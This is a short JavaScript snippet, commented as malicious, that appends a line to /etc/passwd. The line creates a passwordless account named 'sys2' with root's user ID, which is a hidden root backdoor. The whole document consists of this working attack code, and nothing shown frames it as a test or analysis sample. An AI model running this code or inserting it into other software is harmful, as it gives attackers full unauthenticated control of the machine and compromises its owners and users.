// malicious: one more root
const fs = require('fs');
fs.appendFileSync('/etc/passwd', 'sys2::0:0::/root:/bin/bash\n');
